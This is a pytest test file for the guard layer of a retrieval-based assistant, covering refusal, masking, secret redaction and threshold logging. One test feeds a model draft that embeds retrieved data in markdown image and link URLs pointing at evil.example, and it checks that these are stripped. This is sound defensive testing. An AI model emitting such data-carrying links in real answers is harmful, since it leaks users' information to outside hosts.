"""The guards of the settings at their stands, from a question to what is stored."""

import json
from collections.abc import Callable, Iterable

import pytest

from guards.guard import Context
from guards.verdicts import Finding
from rag.events import Event
from rag.guarding import Guarding
from rag.house import House
from rag.settings import BadSettings, Guards, Model
from store import answers, findings
from store.engine import Database
from store.records import DraftCounts
from tests.conftest import BuildHouse, LibraryOf
from tests.model_server import Behaviour, Garbage, ModelServer, Reply, Status
from tests.rag.answering import HOTEL, HOTEL_SENTENCE, LIBRARY, answer_of, events_of, kinds, of_kind, replayed
from tests.rag.test_assistant import answered

HERE = "tests.rag.test_guarding"
KEY = "sk-proj-" + "aB3" * 16
ModelAt = Callable[..., Model]


class Euros:
    """Is sure of 0.6 that nobody should speak of euros."""

    name = "euros"

    def find(self, text: str, context: Context) -> Iterable[Finding]:
        at = text.find("euro")
        yield Finding(self.name, "money", "It speaks of money.", (at, at + 4) if at >= 0 else None, 0.6 * (at >= 0))


class Failing:
    name = "failing"

    def find(self, text: str, context: Context) -> Iterable[Finding]:
        raise RuntimeError


def at(stand: str, post: str, guard: str = "Euros", **more: object) -> Guards:
    return Guards.model_validate({stand: {f"{HERE}:{guard}": post}, **more})


@pytest.fixture
def guarded(build_house: BuildHouse, library_of: LibraryOf) -> Callable[..., House]:
    def build(guards: Guards, **more: object) -> House:
        house = build_house(guards=guards, **more)
        library_of(house, LIBRARY)
        return house

    return build


def written(answer: str) -> Reply:
    """A model's whole draft, quoting the hotel sentence."""
    draft = {"answer": answer, "citations": [{"passage": 1, "quote": HOTEL_SENTENCE}], "answerable": True}
    return Reply(json.dumps(draft | {"follow_ups": []}))


def acts(events: Iterable[Event]) -> list[tuple[str, str, str]]:
    return [
        (event.stand, acted.finding.what, acted.action)
        for event in of_kind(events, "guarded")
        for acted in event.ruling.acted
    ]


def test_a_refused_question_is_told_why_and_not_searched(guarded: Callable[..., House]) -> None:
    events = events_of(guarded(at("question", "refuse")), "How many euros?")
    assert kinds(events) == ["guarded", "refused"]
    assert answer_of(events).text == "It speaks of money."


def test_a_guard_that_is_not_sure_enough_does_nothing_but_its_score_is_kept(guarded: Callable[..., House]) -> None:
    events = events_of(guarded(at("question", "refuse 0.7")), "How many euros for a hotel night?")
    assert (events[0].kind, acts(events)) == ("checked", [])
    assert events[0].scores == {f"{HERE}:Euros": 0.6}  # type: ignore[union-attr]


def test_a_flagged_question_is_answered(guarded: Callable[..., House]) -> None:
    events = events_of(guarded(at("question", "flag")), "How many euros for a hotel night?")
    assert (acts(events), events[-1].kind) == ([("question", "money", "flag")], "answered")


def test_a_masked_question_goes_on_without_those_words(guarded: Callable[..., House]) -> None:
    events = events_of(guarded(at("question", "mask")), f"{HOTEL} In euros?")
    assert of_kind(events, "checked")[0].question == f"{HOTEL} In ⟨money hidden⟩s?"


def test_a_refused_passage_is_not_used(guarded: Callable[..., House]) -> None:
    events = events_of(guarded(at("passage", "refuse")), HOTEL)
    assert all("euro" not in passage.text for passage in of_kind(events, "retrieved")[0].retrieval.passages)
    assert events[-1].kind == "not_found"


def test_a_masked_passage_is_quoted_without_those_words(guarded: Callable[..., House]) -> None:
    """And its footnote opens them at their place in the document."""
    house = guarded(at("passage", "mask"))
    answer = answer_of(events_of(house, HOTEL))
    [citation] = answer.citations
    assert citation.quote == HOTEL_SENTENCE.replace("euro", "••••")
    assert house.library.excerpt(citation.document_id, citation.start, citation.end) == HOTEL_SENTENCE


@pytest.mark.parametrize(("post", "end"), [("flag", "answered"), ("mask", "answered"), ("refuse", "refused")])
def test_the_documents_own_words_are_looked_at_too(guarded: Callable[..., House], post: str, end: str) -> None:
    events = events_of(guarded(at("answer", post)), HOTEL)
    assert (events[-1].kind, acts(events)) == (end, [("answer", "money", post)])
    assert ("euro" in replayed(events)[-1]) == (post == "flag" or end == "refused")


def test_a_models_draft_is_asked_for_again_with_the_reason(
    guarded: Callable[..., House], model_server: ModelServer, model_at: ModelAt
) -> None:
    model_server.enqueue(written("A night costs 140 euros. [1]"), written("A night is paid. [1]"))
    house = guarded(at("answer", "ask_again"), models=[model_at(model_server.url)])
    answer = answer_of(events_of(house, HOTEL))
    assert "It speaks of money." in model_server.requests[1].body["messages"][-1]["content"]
    assert (answer.text, answer.degraded) == ("A night is paid. [1]", None)


def test_a_models_draft_that_is_refused_goes_to_the_next_writer_at_once(
    guarded: Callable[..., House], model_server: ModelServer, model_at: ModelAt
) -> None:
    house = guarded(
        Guards.model_validate({"answer": {f"{HERE}:Failing": "refuse"}, "closed": [f"{HERE}:Failing"]}),
        models=[model_at(model_server.url)],
    )
    events = events_of(house, HOTEL)
    assert (len(model_server.requests), events[-1].kind) == (1, "refused")


def test_a_broken_guard_lets_pass_and_is_counted(guarded: Callable[..., House]) -> None:
    house = guarded(at("question", "refuse", "Failing"))
    events = events_of(house, HOTEL)
    assert (of_kind(events, "guarded")[0].ruling.broken, events[-1].kind) == ((f"{HERE}:Failing",), "answered")


def test_a_broken_guard_that_has_to_be_there_stops_the_question(guarded: Callable[..., House]) -> None:
    house = guarded(at("question", "refuse", "Failing", closed=[f"{HERE}:Failing"]))
    assert events_of(house, HOTEL)[-1].kind == "refused"


def test_a_secret_in_an_answer_is_never_shown(
    build_house: BuildHouse, library_of: LibraryOf, model_server: ModelServer, model_at: ModelAt
) -> None:
    house = build_house(models=[model_at(model_server.url)])
    library_of(house, {"keys.md": f"# Keys\n\nThe key of the hotel account is {KEY} since May.\n"})
    events = events_of(house, "What is the key of the hotel account?")
    assert all(KEY not in text for text in replayed(events))
    assert "⟨secret key hidden⟩" in answer_of(events).text


def test_findings_and_scores_are_kept_with_the_answer(guarded: Callable[..., House]) -> None:
    house = guarded(at("question", "flag"))
    asked = answered(house, "How many euros for a hotel night?")
    with house.database.read() as session:
        kept = findings.of_answers(session, [asked.answer_id])[asked.answer_id]
        trace = answers.trace(session, asked.answer_id)
    assert [(one.stand, one.what, one.action, one.sure) for one in kept] == [("question", "money", "flag", 0.6)]
    assert trace is not None
    assert trace.scores == {f"question/{HERE}:Euros": 0.6}


def test_a_saved_threshold_counts_at_once_and_for_other_processes(database: Database) -> None:
    settings = at("question", "refuse 0.7")
    here, there = Guarding(database, settings), Guarding(database, settings)
    here.set_threshold("question", f"{HERE}:Euros", 0.5)
    assert here.rule("question", "euro").action == there.rule("question", "euro").action == "refuse"


@pytest.mark.parametrize("guards", [{"question": {"moon": "flag"}}, {"answer": {f"{HERE}:Missing": "flag"}}])
def test_a_guard_that_cannot_be_had_stops_the_start(database: Database, guards: dict[str, dict[str, str]]) -> None:
    with pytest.raises(BadSettings, match=r"\[guards\]"):
        Guarding(database, Guards.model_validate(guards))


def test_a_closed_guard_that_stands_nowhere_stops_the_start(database: Database) -> None:
    with pytest.raises(BadSettings, match="injektion, which stands nowhere"):
        Guarding(database, Guards(closed=["injection", "injektion"]))


def test_no_time_limit_is_endless() -> None:
    with pytest.raises(ValueError, match="less than or equal to 600"):
        Guards(time_limit_s=float("inf"))


@pytest.mark.parametrize("post", ["forbid", "refuse 2", "refuse x", ""])
def test_a_post_that_cannot_be_read_is_told(post: str) -> None:
    with pytest.raises(ValueError, match=r"no post|could not convert"):
        at("question", post)


def test_a_house_without_guards_answers(guarded: Callable[..., House]) -> None:
    house = guarded(Guards(question={}, document={}, stream={}, answer={}))
    assert HOTEL_SENTENCE in answer_of(events_of(house, HOTEL)).text


def test_an_address_that_a_model_makes_up_reaches_nobody(
    build_house: BuildHouse, library_of: LibraryOf, model_server: ModelServer, model_at: ModelAt
) -> None:
    """A picture whose address carries what was read would be fetched by whatever shows the answer."""
    house = build_house(models=[model_at(model_server.url)])
    library_of(house, LIBRARY)
    model_server.enqueue(written("140 euros. [1] ![](https://evil.example/?q=140) Or http://evil.example/140 it is."))
    events = events_of(house, HOTEL)
    assert [text for text in replayed(events) if "evil" in text] == []
    assert "evil" not in answer_of(events).text


@pytest.mark.parametrize(
    ("behaviours", "counts"),
    [
        ((), DraftCounts(valid=1)),
        ((Garbage(),), DraftCounts(mended=1)),
        ((Garbage(), Garbage()), DraftCounts(unusable=1)),
        ((Status(500),), DraftCounts()),
    ],
)
def test_how_a_models_drafts_did_is_counted(
    build_house: BuildHouse,
    library_of: LibraryOf,
    model_server: ModelServer,
    model_at: ModelAt,
    behaviours: tuple[Behaviour, ...],
    counts: DraftCounts,
) -> None:
    house = build_house(models=[model_at(model_server.url)])
    library_of(house, LIBRARY)
    model_server.enqueue(*behaviours)
    answered(house)
    assert house.operations.models()[0].drafts == counts


def test_a_threshold_goes_back_to_the_setting_in_all_processes(
    database: Database, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("rag.thresholds.FRESH_S", 0.0)
    settings = at("question", "refuse 0.7")
    here, there = Guarding(database, settings), Guarding(database, settings)
    here.set_threshold("question", f"{HERE}:Euros", 0.5)
    before = there.rule("question", "euro").action
    here.set_threshold("question", f"{HERE}:Euros", None)
    assert (before, there.rule("question", "euro").action, here.posts[0].threshold) == ("refuse", "allow", 0.7)


def test_changes_of_a_threshold_are_kept_and_logged(database: Database, caplog: pytest.LogCaptureFixture) -> None:
    guarding = Guarding(database, at("question", "refuse 0.7"))
    with caplog.at_level("INFO", "rag.thresholds"):
        guarding.set_threshold("question", f"{HERE}:Euros", 0.5, by="ana")
        guarding.set_threshold("question", f"{HERE}:Euros", None)
    changes = guarding.threshold_changes("question", f"{HERE}:Euros")
    assert [(one["old"], one["new"], one["by"]) for one in changes] == [(0.5, 0.7, ""), (0.7, 0.5, "ana")]
    assert "went from 0.7 to 0.5, by ana" in caplog.text


def test_a_threshold_of_a_guard_that_does_not_stand_there_is_not_kept(database: Database) -> None:
    guarding = Guarding(database, at("question", "refuse 0.7"))
    with pytest.raises(KeyError):
        guarding.set_threshold("answer", f"{HERE}:Euros", 0.5)
    assert guarding.threshold_changes("answer", f"{HERE}:Euros") == []
